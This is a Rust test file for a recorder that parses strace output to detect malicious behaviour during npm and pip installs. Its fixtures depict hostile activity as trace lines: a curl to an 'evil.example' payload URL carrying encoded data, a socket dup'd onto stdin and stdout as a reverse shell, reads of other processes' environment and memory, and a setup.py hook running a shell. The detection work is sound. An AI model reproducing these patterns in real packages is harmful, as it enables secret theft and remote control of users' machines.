//! Hand-written strace lines for the shapes a short real recording does not reliably
//! produce: interleaved unfinished/resumed calls, escapes, a trace cut mid-line, every
//! sockaddr family, sendmsg/sendmmsg DNS, lifecycle tagging through a process chain,
//! pip's build hooks, process access, signals and threads.
#![allow(clippy::unwrap_used)]

mod common;

use airlock_events::{EventKind, Outcome};
use airlock_recorder::{Recorder, RecorderConfig, CHAIN_MAX};
use common::*;

fn cfg() -> RecorderConfig {
    RecorderConfig::new("install")
}

const ENV: &str = r#"["PATH=/usr/bin", "npm_lifecycle_event=postinstall", "npm_package_name=evil", "npm_lifecycle_script=node install.js"]"#;

#[test]
fn lifecycle_chain_npm_sh_node_curl() {
    let t = format!(
        r#"100 1.000001 execve("/usr/bin/npm", ["npm", "install"], ["PATH=/usr/bin"]) = 0
100 1.000002 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 101
101 1.000003 execve("/bin/sh", ["sh", "-c", "node install.js"], {ENV}) = 0
101 1.000004 vfork( <unfinished ...>
102 1.000005 execve("/usr/bin/node", ["node", "install.js"], ["PATH=/usr/bin"] <unfinished ...>
101 1.000006 <... vfork resumed>) = 102
102 1.000007 <... execve resumed>) = 0
102 1.000008 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 103
103 1.000009 execve("/usr/bin/curl", ["curl", "-s", "http://x"], []) = 0
103 1.000010 +++ exited with 0 +++
102 1.000011 +++ exited with 0 +++
101 1.000012 +++ exited with 0 +++
100 1.000013 +++ exited with 0 +++
"#
    );
    let (ev, stats) = parse_str(cfg(), &t);
    assert_eq!(stats.unparsed, 0);
    let npm = exec_of(&ev, "npm").proc.as_ref().unwrap();
    assert_eq!(
        npm.lifecycle, None,
        "npm itself is not inside a lifecycle script"
    );
    let sh = exec_of(&ev, "sh");
    if let EventKind::ProcessExec { env, env_count, .. } = &sh.kind {
        assert_eq!(*env_count, 4);
        assert_eq!(
            env.get("npm_lifecycle_script").map(String::as_str),
            Some("node install.js")
        );
        assert!(!env.contains_key("PATH"));
    }
    // node's exec env lacks the variable (scrubbed) but it inherits the tag; so does curl.
    for exe in ["sh", "node", "curl"] {
        let p = exec_of(&ev, exe).proc.as_ref().unwrap();
        assert_eq!(p.lifecycle.as_deref(), Some("postinstall"), "{exe}");
    }
    let curl = exec_of(&ev, "curl").proc.as_ref().unwrap();
    assert_eq!(
        curl.chain,
        vec![
            "npm install",
            "sh -c node install.js",
            "node install.js",
            "curl -s http://x"
        ]
    );
    assert_eq!(curl.ppid, Some(102));
    // vfork child spoke before the parent's vfork returned: still started once, by 101.
    let starts: Vec<_> = ev
        .iter()
        .filter_map(|e| match e.kind {
            EventKind::ProcessStart { pid, ppid } => Some((pid, ppid)),
            _ => None,
        })
        .collect();
    assert_eq!(starts, vec![(101, 100), (102, 101), (103, 102)]);
    assert_eq!(of_type(&ev, "process.exit").len(), 4);
}

#[test]
fn interleaved_unfinished_calls_join_per_pid() {
    let t = r#"10 2.0 execve("/bin/sh", ["sh"], []) = 0
10 2.1 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x1) = 11
10 2.2 openat(AT_FDCWD</home/u>, "../../etc/passwd", O_RDONLY|O_CLOEXEC <unfinished ...>
11 2.3 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(443), <unfinished ...>
10 2.4 <... openat resumed>) = 3</etc/passwd>
11 2.5 <... connect resumed>sin_addr=inet_addr("93.184.216.34")}, 16) = -1 ECONNREFUSED (Connection refused)
"#;
    let (ev, stats) = parse_str(cfg(), t);
    assert_eq!(stats.unparsed, 0);
    assert!(ev.iter().any(|e| e.pid() == Some(10)
        && matches!(&e.kind, EventKind::FileOpen { path, write: false, outcome: Outcome::Ok, .. } if path == "/etc/passwd")));
    assert!(ev.iter().any(|e| e.pid() == Some(11)
        && matches!(&e.kind, EventKind::NetConnect { addr, port: 443, outcome: Outcome::Err(e), .. } if addr == "93.184.216.34" && e == "ECONNREFUSED")));
}

#[test]
fn escapes_in_argv_and_paths() {
    let t = r#"5 1.0 execve("/bin/sh", ["sh", "-c", "echo \"a\tb\"\nx\\y \x41\101"], []) = 0
5 1.1 openat(AT_FDCWD</tmp>, "we\"ird\\na\x6de\n", O_WRONLY|O_CREAT, 0644) = 3</tmp/we"ird\\name\n>
5 1.2 chdir("/tmp/a\76b") = 0
5 1.3 mkdir("\303\274", 0777) = 0
5 1.4 fchmod(3</tmp/a\76b/\303\274>, 0700) = 0
"#;
    let (ev, _) = parse_str(cfg(), t);
    match &exec_of(&ev, "sh").kind {
        EventKind::ProcessExec { argv, .. } => assert_eq!(argv[2], "echo \"a\tb\"\nx\\y AA"),
        k => panic!("{k:?}"),
    }
    assert!(ev.iter().any(
        |e| matches!(&e.kind, EventKind::FileOpen { path, .. } if path == "/tmp/we\"ird\\name\n")
    ));
}

#[test]
fn truncated_last_line_is_marked_and_does_not_panic() {
    let full = r#"7 1.0 execve("/usr/bin/node", ["node", "x.js"], []) = 0
7 1.1 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("10.1.2.3")}, 16) = 0
7 1.2 execve("/usr/bin/curl", ["curl", "http://evil.example/payload?d=aGVsbG8"], ["A=1"]) = 0
"#;
    // Every cut point of the trace: never panics, and any cut inside a line is flagged.
    for cut in 0..full.len() {
        let text = &full[..cut];
        let (ev, stats) = parse_str(cfg(), text);
        let cut_mid_line = !text.is_empty() && !text.ends_with('\n');
        assert_eq!(stats.truncated, cut_mid_line, "cut at {cut}: {text:?}");
        if cut_mid_line {
            assert!(
                matches!(&ev.last().unwrap().kind, EventKind::Note { message } if message.contains("incomplete"))
            );
        }
    }
    // A cut in the middle of a long execve still yields the exec, with unknown outcome.
    let cut = full.find("payload").unwrap() + 4;
    let (ev, _) = parse_str(cfg(), &full[..cut]);
    assert!(
        ev.iter().any(|e| matches!(&e.kind,
        EventKind::ProcessExec { path, outcome: Outcome::Unknown, .. } if path == "/usr/bin/curl"))
    );
}

#[test]
fn unfinished_at_end_is_flushed_with_unknown_outcome() {
    let t = r#"8 1.0 execve("/bin/sh", ["sh"], []) = 0
8 1.1 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.9.9.9")}, 16 <unfinished ...>
"#;
    let (ev, stats) = parse_str(cfg(), t);
    assert_eq!(stats.pending_at_end, 1);
    assert!(!stats.truncated);
    assert!(ev.iter().any(|e| matches!(
        &e.kind,
        EventKind::NetConnect {
            port: 4444,
            outcome: Outcome::Unknown,
            ..
        }
    )));
    assert!(matches!(&ev.last().unwrap().kind, EventKind::Note { .. }));
}

#[test]
fn sockaddr_variants() {
    let t = r#"9 1.0 connect(3<TCPv6:[1]>, {sa_family=AF_INET6, sin6_port=htons(8443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = 0
9 1.1 connect(4<UNIX-STREAM:[2]>, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 110) = 0
9 1.2 connect(5<UNIX-STREAM:[3]>, {sa_family=AF_UNIX, sun_path=@"abstract\0name"}, 20) = 0
9 1.3 bind(6<TCP:[4]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("0.0.0.0")}, 16) = 0
9 1.4 connect(7<UDP:[5]>, {sa_family=AF_UNSPEC, sa_data="\0\0\0\0"}, 16) = 0
9 1.5 connect(8<NETLINK:[6]>, {sa_family=AF_NETLINK, nl_pid=0, nl_groups=00000000}, 12) = 0
"#;
    let (ev, stats) = parse_str(cfg(), t);
    assert_eq!(stats.unparsed, 0);
    let c: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::NetConnect {
                family, addr, port, ..
            } => Some((family.clone(), addr.clone(), *port)),
            _ => None,
        })
        .collect();
    assert_eq!(
        c,
        vec![
            ("AF_INET6".into(), "2001:db8::1".into(), 8443),
            ("AF_UNIX".into(), "/var/run/docker.sock".into(), 0),
            ("AF_UNIX".into(), "@abstract\0name".into(), 0),
            ("AF_NETLINK".into(), String::new(), 0),
        ]
    );
    assert!(ev.iter().any(
        |e| matches!(&e.kind, EventKind::NetBind { addr, port: 4444, .. } if addr == "0.0.0.0")
    ));
}

#[test]
fn dns_over_sendmmsg_and_sendmsg_on_connected_udp() {
    // glibc's resolver: connect() the UDP socket, then sendmmsg the A and AAAA queries.
    let a = r"\x12\x34\1\0\0\1\0\0\0\0\0\0\3foo\7example\3com\0\0\1\0\1";
    let aaaa = r"\x12\x35\1\0\0\1\0\0\0\0\0\0\3foo\7example\3com\0\0\34\0\1";
    let t = format!(
        r#"20 1.0 sendmmsg(3<UDP:[10.0.0.2:40000->10.0.0.1:53]>, [{{msg_hdr={{msg_name=NULL, msg_namelen=0, msg_iov=[{{iov_base="{a}", iov_len=33}}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}, msg_len=33}}, {{msg_hdr={{msg_name=NULL, msg_namelen=0, msg_iov=[{{iov_base="{aaaa}", iov_len=33}}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}, msg_len=33}}], 2, MSG_NOSIGNAL) = 2
20 1.1 sendmsg(4<UDP:[7]>, {{msg_name={{sa_family=AF_INET6, sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "fd00::53", &sin6_addr), sin6_scope_id=0}}, msg_namelen=28, msg_iov=[{{iov_base="{a}", iov_len=33}}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}, 0) = 33
20 1.2 sendto(5<TCP:[1.1.1.1:1->2.2.2.2:443]>, "GET / HTTP/1.1\r\n", 16, MSG_NOSIGNAL, NULL, 0) = 16
20 1.3 sendto(6<UDP:[10.0.0.2:5->10.0.0.1:9999]>, "hello", 5, 0, NULL, 0) = 5
"#
    );
    let (ev, stats) = parse_str(cfg(), &t);
    assert_eq!(stats.unparsed, 0);
    let s: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::NetSendto {
                addr,
                port,
                bytes,
                dns,
                ..
            } => Some((
                addr.clone(),
                *port,
                *bytes,
                dns.as_ref().map(|d| (d.name.clone(), d.qtype.clone())),
            )),
            _ => None,
        })
        .collect();
    let q = |t: &str| Some(("foo.example.com".to_string(), t.to_string()));
    assert_eq!(
        s,
        vec![
            ("10.0.0.1".into(), 53, 33, q("A")),
            ("10.0.0.1".into(), 53, 33, q("AAAA")),
            ("fd00::53".into(), 53, 33, q("A")),
            ("10.0.0.1".into(), 9999, 5, None),
        ],
        "TCP sends are left to the sink"
    );
}

#[test]
fn reverse_shell_dup_and_process_access() {
    let t = r#"30 1.0 dup2(3<TCP:[10.0.0.2:5->10.6.6.6:4444]>, 0) = 0
30 1.1 dup3(3<TCP:[10.0.0.2:5->10.6.6.6:4444]>, 1</dev/pts/0>, 0) = 1<TCP:[10.0.0.2:5->10.6.6.6:4444]>
30 1.2 dup2(3<TCP:[10.0.0.2:5->10.6.6.6:4444]>, 7) = 7
30 1.3 openat(AT_FDCWD</>, "/proc/77/environ", O_RDONLY) = 4</proc/77/environ>
30 1.4 openat(AT_FDCWD</>, "/proc/77/mem", O_RDONLY) = -1 EACCES (Permission denied)
30 1.5 openat(AT_FDCWD</>, "/proc/30/environ", O_RDONLY) = 4</proc/30/environ>
30 1.6 ptrace(PTRACE_ATTACH, 77) = -1 EPERM (Operation not permitted)
30 1.7 process_vm_readv(77, [{iov_base=0x7f, iov_len=4096}], 1, [{iov_base=0x55, iov_len=4096}], 1, 0) = 4096
30 1.8 openat(AT_FDCWD</>, "/sys/class/dmi/id/product_name", O_RDONLY) = 4</sys/class/dmi/id/product_name>
30 1.9 faccessat2(AT_FDCWD</>, "/run/.containerenv", F_OK, 0) = -1 ENOENT (No such file or directory)
"#;
    let (ev, _) = parse_str(cfg(), t);
    let dups: Vec<_> = ev
        .iter()
        .filter_map(|e| match e.kind {
            EventKind::NetSocketDup { target_fd, .. } => Some(target_fd),
            _ => None,
        })
        .collect();
    assert_eq!(dups, vec![0, 1]);
    let access: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ProcessAccess {
                target_pid,
                how,
                outcome,
            } => Some((*target_pid, how.as_str(), outcome.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        access,
        vec![
            (77, "proc-environ", Outcome::Ok),
            (77, "proc-mem", Outcome::Err("EACCES".into())),
            (77, "ptrace-attach", Outcome::Err("EPERM".into())),
            (77, "process_vm_readv", Outcome::Ok),
        ],
        "own /proc/30/environ is not access to another process"
    );
    let secret_vias: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::SecretRead {
                via,
                canary_id: None,
                ..
            } => Some(via.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(secret_vias, vec!["proc-environ", "process_vm_readv"]);
    let probes: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Probe { what, .. } => Some(what.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(probes, vec!["vm", "container"]);
}

#[test]
fn pip_build_hooks_are_tagged_setup_py() {
    let t = r#"40 1.0 execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "evil"], []) = 0
40 1.1 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x1) = 41
41 1.2 execve("/usr/bin/python3", ["/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py", "get_requires_for_build_wheel", "/tmp/tmpx"], []) = 0
41 1.3 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x1) = 42
42 1.4 execve("/bin/sh", ["sh", "-c", "id"], []) = 0
40 1.5 clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x1) = 43
43 1.6 execve("/usr/bin/python3", ["python3", "-c", "import sys; sys.argv[0] = '/tmp/pip-install-1/evil/setup.py'; exec(compile(...))", "egg_info"], []) = 0
"#;
    let (ev, _) = parse_str(cfg(), t);
    let lc = |pid: u32| {
        ev.iter()
            .rev()
            .find(|e| e.pid() == Some(pid) && e.kind.type_name() == "process.exec")
            .and_then(|e| e.proc.as_ref().unwrap().lifecycle.clone())
    };
    assert_eq!(lc(40), None);
    assert_eq!(lc(41).as_deref(), Some("setup.py"));
    assert_eq!(
        lc(42).as_deref(),
        Some("setup.py"),
        "inherited by the hook's children"
    );
    assert_eq!(lc(43).as_deref(), Some("setup.py"));
}

#[test]
fn signals_threads_and_bounded_table() {
    let mut rec = Recorder::new(cfg());
    let mut out = Vec::new();
    let lines = [
        r#"50 1.0 execve("/usr/bin/node", ["node"], []) = 0"#,
        r#"50 1.1 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, exit_signal=0, stack=0x1, stack_size=0x7ffe80} => {parent_tid=[51]}, 88) = 51"#,
        r#"51 1.2 openat(AT_FDCWD</app>, "x.js", O_RDONLY) = 3</app/x.js>"#,
        r#"50 1.3 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=99, si_uid=0, si_status=0} ---"#,
        r#"50 1.4 clone3({flags=CLONE_VM|CLONE_VFORK, exit_signal=SIGCHLD, stack=0x1, stack_size=0x9000}, 88) = 52"#,
        r#"52 1.5 execve("/bin/sleep", ["sleep", "1000"], []) = 0"#,
        r#"52 1.6 +++ killed by SIGKILL +++"#,
        r#"51 1.7 +++ exited with 0 +++"#,
        r#"50 1.8 +++ killed by SIGSEGV (core dumped) +++"#,
    ];
    for l in lines {
        rec.feed_line(l, &mut out);
    }
    assert_eq!(
        rec.live(),
        0,
        "exited processes and threads leave the table"
    );
    let stats = rec.finish(&mut out);
    assert_eq!(stats.unparsed, 0);
    assert_eq!(stats.processes, 2);
    // The thread's open is attributed to the process, resolved against its cwd.
    let open = of_type(&out, "file.open")[0];
    assert_eq!(open.pid(), Some(50));
    assert!(matches!(&open.kind, EventKind::FileOpen { path, .. } if path == "/app/x.js"));
    let exits: Vec<_> = out
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ProcessExit { code, signal } => {
                Some((e.pid().unwrap(), *code, signal.clone()))
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        exits,
        vec![
            (52, None, Some("SIGKILL".into())),
            (50, None, Some("SIGSEGV".into()))
        ]
    );
}

#[test]
fn chain_keeps_the_last_entries_and_cuts_long_ones() {
    let mut t = String::new();
    for i in 0..12u32 {
        let pid = 200 + i;
        if i > 0 {
            t += &format!(
                "{} 1.{i} clone(child_stack=NULL, flags=SIGCHLD, child_tidptr=0x1) = {pid}\n",
                pid - 1
            );
        }
        t += &format!(
            "{pid} 1.{i}5 execve(\"/bin/sh\", [\"sh\", \"-c\", \"step{i} {}\"], []) = 0\n",
            "x".repeat(200)
        );
    }
    let (ev, _) = parse_str(cfg(), &t);
    let last = ev
        .iter()
        .rev()
        .find(|e| e.kind.type_name() == "process.exec")
        .unwrap();
    let chain = &last.proc.as_ref().unwrap().chain;
    assert_eq!(chain.len(), CHAIN_MAX);
    assert!(chain[0].starts_with("sh -c step4 "), "{chain:?}");
    assert!(chain[CHAIN_MAX - 1].starts_with("sh -c step11 "));
    assert!(chain.iter().all(|c| c.chars().count() <= 80));
}

#[test]
fn execveat_of_memfd_and_failed_exec() {
    let t = r#"60 1.0 execve("/usr/local/bin/curl", ["curl"], []) = -1 ENOENT (No such file or directory)
60 1.1 execveat(3</memfd:x (deleted)>, "", ["x"], [], AT_EMPTY_PATH) = 0
"#;
    let (ev, _) = parse_str(cfg(), t);
    let execs: Vec<_> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::ProcessExec { path, outcome, .. } => Some((path.as_str(), outcome.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        execs,
        vec![
            ("/usr/local/bin/curl", Outcome::Err("ENOENT".into())),
            ("/memfd:x (deleted)", Outcome::Ok)
        ]
    );
}
